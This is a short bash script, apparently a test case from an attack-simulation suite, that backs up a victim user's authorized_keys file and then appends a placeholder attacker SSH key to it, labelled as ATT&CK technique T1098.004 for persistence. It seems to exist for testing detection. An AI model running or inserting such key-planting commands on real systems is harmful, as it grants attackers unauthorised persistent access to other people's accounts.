#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1098.004
# tactic: persistence
# what: an attacker's key appended to another user's ~/.ssh/authorized_keys, with echo >>
. "$AT_LIB"
at_backup "$AT_VICTIM_HOME/.ssh/authorized_keys"
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerAttackerAttacker plattack" >>"$AT_VICTIM_HOME/.ssh/authorized_keys"
